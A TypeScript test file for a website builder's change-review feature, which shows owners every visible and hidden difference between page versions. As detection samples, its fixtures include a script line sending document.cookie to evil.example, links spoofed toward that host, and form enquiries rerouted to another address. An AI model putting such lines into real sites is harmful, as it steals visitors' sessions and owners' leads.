/** What an owner approves is what they are shown: nothing that anybody can see or follow is left out. */
import { readdirSync, readFileSync } from "node:fs"
import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import { wellFormedMarkup } from "../../../test/corpus/generate.ts"
import { judgePage } from "../../../test/corpus/judge.ts"
import type { ReviewChange } from "./Change.ts"
import { ThemeTokens } from "../theme/tokens.ts"
import { themeName } from "./names.ts"
import { reviewChanges } from "./reviewChanges.ts"

const of = (was: object, now: object, section?: string) =>
  reviewChanges({ payload: was }, { payload: now }).filter(
    (change) => section === undefined || change.section === section
  )
const texts = (changes: ReadonlyArray<ReviewChange>) =>
  changes.map(({ was, now }) => [was?.text ?? null, now?.text ?? null])

describe("what a version changes", () => {
  it("C1: lists a picture that was swapped and a link that leads to another host, where no word changed", () => {
    const page = (src: string, href: string) => ({
      html: `<h1>Workshop</h1><img src="${src}" alt="Our workshop"><p><a href="${href}">Book a visit</a></p>`
    })
    const was = page("/media/med_aaaa1", "/book")
    const now = page("/media/med_bbbb2", "https://evil.example/book")
    expect(of(was, now)).toEqual([
      {
        section: "pictures",
        label: "Our workshop",
        saidStill: "Our workshop",
        was: { text: "/media/med_aaaa1", picture: "/media/med_aaaa1" },
        now: { text: "/media/med_bbbb2", picture: "/media/med_bbbb2" }
      },
      {
        section: "links",
        label: "Book a visit",
        was: { text: "/book" },
        now: { text: "https://evil.example/book", elsewhere: "evil.example" }
      }
    ])
  })

  it.each([
    ["//evil.example/x", "evil.example"],
    ["HTTPS:\\\\evil.example\\x", "evil.example"],
    ["https://www.own.example@evil.example/", "evil.example"],
    ["https://evil.example:8443/", "evil.example:8443"],
    ["/book?to=x", undefined],
    ["mailto:a@b.example", undefined]
  ])("marks %s by the host a browser would ask: %s", (href, host) => {
    const [change] = of({ html: '<a href="/">x</a>' }, { html: `<a href="${href}">x</a>` }, "links")
    expect(change!.now!.elsewhere).toBe(host)
  })

  it("tells two links that changed places by their words, whichever of them came first", () => {
    const links = (one: string, other: string) => ({ html: `<a href="${one}">Pay</a> <a href="${other}">Terms</a>` })
    expect(
      of(links("/pay", "/terms"), links("/terms", "/pay"), "links").map(({ label, now }) => [label, now!.text])
    ).toEqual([
      ["Pay", "/terms"],
      ["Terms", "/pay"]
    ])
  })

  it("says that pictures stand in another order, and that words are set off otherwise", () => {
    const pictures = (...ids: ReadonlyArray<string>) => ({
      html: ids.map((id) => `<img src="/media/med_${id}" alt="${id}">`).join("")
    })
    const moved = of(pictures("aaaa", "bbbb"), pictures("bbbb", "aaaa"))
    expect(moved.map(({ section, label, moved }) => [section, label, moved])).toEqual([
      ["pictures", "bbbb", true],
      ["pictures", "aaaa", true]
    ])
    const struck = of({ html: "<p><s>40</s> 45</p>" }, { html: "<p>40 <s>45</s></p>" })
    expect(texts(struck)).toEqual([["40", "45"]])
  })

  it("says whom a form takes the enquiries from that named nobody: whom the site tells", () => {
    const form = (to: string) => ({ html: `<mk-component name="lead-form" data-form-id="visit"${to}></mk-component>` })
    const [none, thief] = [form(""), form(' data-notify-email="eve@else.test"')]
    const forms = (was: object, now: object) => reviewChanges({ payload: was }, { payload: now }, ["nell@vale.test"])
    const label = "lead-form visit: who gets its enquiries"
    const ofSite = "nell@vale.test (as the website's settings say)"
    expect(forms(none, thief)).toEqual([
      {
        section: "forms",
        label,
        was: { text: ofSite, recipients: ["nell@vale.test"] },
        now: { text: "eve@else.test", recipients: ["eve@else.test"] }
      }
    ])
    expect(forms(thief, none)).toEqual([
      { section: "forms", label, was: { text: "eve@else.test", recipients: ["eve@else.test"] }, now: { text: ofSite } }
    ])
  })

  it("tells no words as changed that stayed, however much differs beside them", () => {
    const items = (from: number, count: number) =>
      Array.from({ length: count }, (_, at) => `<p>Item ${from + at}</p>`).join("")
    const was = items(0, 30)
    const changed = of({ html: `${was}<p>The end</p>` }, { html: `${was}${items(1000, 1500)}<p>The end</p>` }, "words")
    expect(changed).toHaveLength(1500)
    expect(changed.every((change) => change.was === null)).toBe(true)
    const [one, other] = [items(0, 1200), items(0, 1200).replace(/Item (\d*[0-8])</g, "Thing $1<")]
    expect(of({ html: one }, { html: other }, "words").filter(({ was, now }) => was?.text === now?.text)).toEqual([])
  })

  it("says of a form who gets its enquiries, and of a component what it shows", () => {
    const form = (to: string) => ({
      html: `<mk-component data-component="lead-form" data-form-id="visit" data-notify-email="${to}"></mk-component>`
    })
    const [change] = of(form("a@own.example"), form("b@evil.example"), "forms")
    expect(change).toMatchObject({
      label: "lead-form visit: who gets its enquiries",
      was: { text: "a@own.example" },
      now: { text: "b@evil.example" }
    })
    const list = (items: string) => ({
      html: `<mk-component data-component="collection" data-key="${items}"></mk-component>`
    })
    expect(texts(of(list("pianos"), list("organs"), "components"))).toEqual([["pianos", "organs"]])
  })

  it("tells what a form asks for in words, question by question, and calls a part by its name once", () => {
    const form = (...fields: ReadonlyArray<object>) => ({
      html: `<mk-component name="form" data-form-id="quote" data-submit-label="Send" data-fields='${JSON.stringify(fields)}'></mk-component>`
    })
    const mail = { name: "email", label: "Your email", type: "email", required: true }
    const choice = { name: "kind", type: "select", options: ["Upright", { value: "g", label: "Grand" }] }
    const file = { name: "photo", label: "A picture", type: "file", accept: ["jpg", "pdf"], multiple: true }
    const hidden = { name: "from", label: "From", type: "hidden", value: "https://evil.example/" }
    const came = of({}, form(mail, choice, file, hidden))
    expect(came.map(({ section, label, now }) => [section, label, now!.text])).toContainEqual([
      "forms",
      "form quote: what it asks for",
      [
        "Your email (an email address, must be filled in)",
        "kind (a choice, to choose from: Upright / Grand [g])",
        "A picture (files, of these kinds: jpg / pdf)",
        "From (sent along unseen, which says “https://evil.example/”)"
      ].join("\n")
    ])
    expect(came.find(({ section }) => section === "forms")!.now!.elsewhere).toBe("evil.example")
    expect(of({}, form(mail), "components").map(({ label, now }) => [label, now!.text])).toEqual([
      ["form quote", "Part that the platform fills in “form quote”"],
      ["form quote: words on its button", "Send"]
    ])
    const [asked] = of(form(mail), form(mail, { name: "more", type: "textarea" }), "forms")
    expect(asked!.now!.text).toBe("Your email (an email address, must be filled in)\nmore (a longer text)")
    // Where no word tells how they differ, or something has no word, all of it is shown as it is written.
    const [named] = of(form(mail), form({ ...mail, name: "mail" }), "forms")
    expect(named).toMatchObject({
      was: { text: JSON.stringify([mail]) },
      now: { text: expect.stringContaining('"mail"') }
    })
    const [odd] = of({}, form({ ...mail, unheard: 1 }), "forms")
    expect(odd!.now!.text).toContain('"unheard":1')
    const passage = of({}, { html: '<mk-partial ref="hours"></mk-partial>' }, "components")
    expect(texts(passage)).toEqual([[null, "Passage that several pages share “hours”"]])
  })

  it("names what nobody sees of two texts that read the same, and of no others", () => {
    expect(texts(of({ html: "<p>nine hundred</p>" }, { html: "<p>nine\u200B hundred</p>" }, "words"))).toEqual([
      ["nine hundred", "nine[U+200B] hundred"]
    ])
    expect(
      texts(of({ html: "<p>a \u{1F469}\u200D\u{1F467}</p>" }, { html: "<p>b \u{1F469}\u200D\u{1F467}</p>" }, "words"))
    ).toEqual([["a \u{1F469}\u200D\u{1F467}", "b \u{1F469}\u200D\u{1F467}"]])
  })

  it("shows colours of a style and of a theme with their values, and the pictures a style loads", () => {
    const [colour] = of({ css: "a { color: #112233 }" }, { css: "a { color: #fff0 }" })
    expect(colour).toEqual({
      section: "looks",
      label: "a › color",
      was: { text: "#112233", colours: ["#112233"] },
      now: { text: "#fff0", colours: ["#fff0"] }
    })
    const tokens = (text: string) => ({ tokens: { color: { text }, font: { body: "Inter" } } })
    expect(of(tokens("#000000"), tokens("#ffffff"))).toMatchObject([
      { label: "Colour of text", now: { colours: ["#ffffff"] } }
    ])
    const [picture] = of({ css: "a { color: red }" }, { css: "a { background: url(/media/med_aaaa1) }" }, "pictures")
    expect(picture!.now).toMatchObject({ picture: "/media/med_aaaa1" })
  })

  it("names what a theme sets and what a page is built of in words, and not by the terms of the source", () => {
    const { color, font, space, radius } = ThemeTokens.fields
    const groups = { color: color.schema, font, space: space.schema, radius: radius.schema }
    const paths = Object.entries(groups).flatMap(([group, { fields }]) =>
      Object.keys(fields).map((name) => [group, name])
    )
    expect(paths.length).toBeGreaterThan(15)
    const named = paths.map((path) => themeName(path))
    for (const name of named) expect(name).toMatch(/^[A-Z][a-z ,:]+$/)
    expect(new Set(named).size).toBe(named.length)
    const built = of({ html: "<p>a</p>" }, { html: "<h2>b</h2><p>a</p><blink>c</blink>" }, "structure")
    expect(built.map(({ label, was, now }) => [label, was?.text, now?.text])).toEqual([
      ["Headings", "0", "1"],
      ["Elements blink", "0", "1"]
    ])
    expect(of({ html: "<p>a b</p>" }, { html: "<p>a <b>b</b></p>" }, "looks")).toMatchObject([{ label: "Bold words" }])
  })

  it("shows a script as code, and each address that is new in it", () => {
    const changes = of({ js: "go()" }, { js: 'go()\nnew Image().src = "https://evil.example/?" + document.cookie' })
    expect(texts(changes)).toEqual([
      ["1 line of code", "2 lines of code"],
      [null, "https://evil.example/?"]
    ])
    expect(changes[1]!.now!.elsewhere).toBe("evil.example")
  })

  it("shows what nobody sees: title, description, and what is read aloud", () => {
    const changes = reviewChanges(
      { payload: { html: '<p aria-label="a">x</p>' }, title: "Old", meta: { description: "d" } },
      { payload: { html: '<p aria-label="b">x</p>' }, title: "New", meta: { noindex: true } }
    )
    expect(changes.map(({ section, label }) => [section, label])).toEqual([
      ["hidden", "Paragraph “b”: what is read aloud"],
      ["hidden", "Title, in search results and in the browser's tab"],
      ["hidden", "Description, in search results"],
      ["hidden", "Kept out of search results"]
    ])
  })

  it("is empty for equal versions alone, and says so where only the source is written otherwise", () => {
    expect(of({ html: "<p>a</p>" }, { html: "<p>a</p>" })).toEqual([])
    expect(texts(of({ html: "<p>a</p>" }, { html: "<p>a</p>\n" }))[0]![0]).toBe(
      "Only spaces and line breaks of the source."
    )
    expect(of({ css: "a { color: red }" }, { css: "/* x */ a { color: red }" })).toHaveLength(1)
  })

  it("tells words that changed within what sets them off once, as words", () => {
    const page = (one: string, other: string, more = "") => ({
      html:
        `<h1>Prices</h1><p>A tuning <span class="price">${one}</span> a visit.</p>` +
        `<p>Care <span class="price">${other}</span> <strong>a year</strong>. The cat may stay.${more}</p>`
    })
    const changes = of(page("£85", "£150"), page("£58", "£510", " Please pay in cash."))
    expect(changes.map(({ section, was, now }) => [section, was?.text, now?.text])).toEqual([
      ["words", "A tuning £85 a visit.", "A tuning £58 a visit."],
      ["words", "Care £150 a year. The cat may stay.", "Care £510 a year. The cat may stay. Please pay in cash."]
    ])
  })

  it.each([
    ["<p><s>85</s> 70</p>", "<p>70 <s>58</s></p>", ["85", "58"]],
    ["<p><b>One</b> or two</p>", "<p>One or <b>three</b></p>", ["One", "three"]],
    ["<p>It costs <s>85</s>.</p>", "<p>It costs <b>58</b>.</p>", ["85", null]]
  ])("still tells that other words are set off: %s, then %s", (was, now, [gone, come]) => {
    expect(texts(of({ html: was }, { html: now }, "looks"))).toContainEqual([gone, come])
  })

  it("tells all that is set off in a block too long to be looked through for each", () => {
    const page = (from: number) => ({
      html: `<p>${Array.from({ length: 100 }, (_, at) => `<b>${from + at}</b>`).join(" and ")} ${"word ".repeat(25_000)}</p>`
    })
    expect(of(page(1_000), page(2_000), "looks")).toHaveLength(100)
  })

  it("grows with the length of a text, not with its square", () => {
    const cost = (count: number) => {
      const page = (host: string) => ({
        html: Array.from({ length: count }, (_, at) => `<a href="https://${host}/${at}"><b>x${at}</b></a>`).join("\n"),
        css: Array.from({ length: count }, (_, at) => `.c${at} { color: #${host.length}${host.length}0 }`).join("\n")
      })
      const [was, now] = [page("one.example"), page("other.example")]
      const start = process.cpuUsage()
      expect(of(was, now, "links")).toHaveLength(count)
      return process.cpuUsage(start).user
    }
    cost(200)
    const [small, large] = [cost(500), cost(2_000)]
    expect(large / small).toBeLessThan(12)
  })
})

/** Bodies that the gate accepts: real pages with random cuts, and generated markup with pictures and links among it. */
const pages = readdirSync(new URL("../../../test/corpus/pages", import.meta.url))
  .filter((name) => name.endsWith(".html"))
  .map((name) => readFileSync(new URL(`../../../test/corpus/pages/${name}`, import.meta.url), "utf8"))
const address = fc.constantFrom(
  "/a",
  "/b?c=d#e",
  "https://one.example/x",
  "https://two.example/",
  "/media/med_aaaa1",
  "tel:+441"
)
const piece = fc.oneof(
  wellFormedMarkup,
  address.map((href) => `<p><a href="${href}">Words</a></p>`),
  address.filter((src) => src.startsWith("/media")).map((src) => `<img src="${src}" alt="">`),
  fc.constantFrom(...pages)
)
const body = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join("\n"))
const css = fc
  .array(
    fc.tuple(
      fc.constantFrom("a", "p", "@media print { b"),
      fc.constantFrom("color: #123456", "background: url(/media/med_bbbb2)")
    ),
    { maxLength: 3 }
  )
  .map((all) =>
    all.map(([selector, rule]) => `${selector} { ${rule} }${selector.includes("{") ? " }" : ""}`).join("\n")
  )
const payload = fc.record({ html: body, css })

/** Every address in a text, found without the model: in attributes and in `url()`. */
const addressesOf = ({ html, css }: { readonly html: string; readonly css: string }): ReadonlySet<string> =>
  new Set([
    ...[
      ...html.matchAll(/\b(?:href|src|action|poster|cite|data-action)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))/g)
    ].map(([, double, single, bare]) => (double ?? single ?? bare)!),
    ...[...css.matchAll(/url\(([^)]*)\)/g)].map(([, url]) => url!)
  ])

describe("over random pairs of accepted pages", () => {
  it("C1: the list is never empty where they differ, and every address that only one of them has is in it", () => {
    let looked = 0
    fc.assert(
      fc.property(payload, payload, (was, now) => {
        fc.pre(judgePage(was.html).ok && judgePage(now.html).ok)
        const changes = of(was, now)
        const differ = was.html !== now.html || was.css !== now.css
        expect(changes.length > 0).toBe(differ)
        const told = changes.flatMap(({ was, now }) => [was?.text ?? "", now?.text ?? ""]).join("\n")
        const [before, after] = [addressesOf(was), addressesOf(now)]
        for (const address of new Set([...before, ...after])) {
          if (before.has(address) && after.has(address)) continue
          looked++
          expect(told).toContain(unescaped(address))
        }
      }),
      { numRuns: 150 }
    )
    expect(looked).toBeGreaterThan(50)
  })
})

const unescaped = (text: string): string =>
  text.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&amp;", "&")
